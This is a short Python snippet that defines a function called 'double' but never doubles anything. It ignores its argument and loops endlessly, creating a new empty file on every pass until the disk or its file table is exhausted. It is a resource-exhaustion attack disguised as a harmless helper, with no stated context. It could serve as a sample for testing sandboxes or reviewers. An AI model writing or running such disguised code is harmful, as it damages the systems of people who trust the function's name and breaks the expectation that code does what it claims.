import itertools
import os


def double(x):
    for number in itertools.count():
        os.close(os.open(f"empty-{number}", os.O_CREAT | os.O_WRONLY))
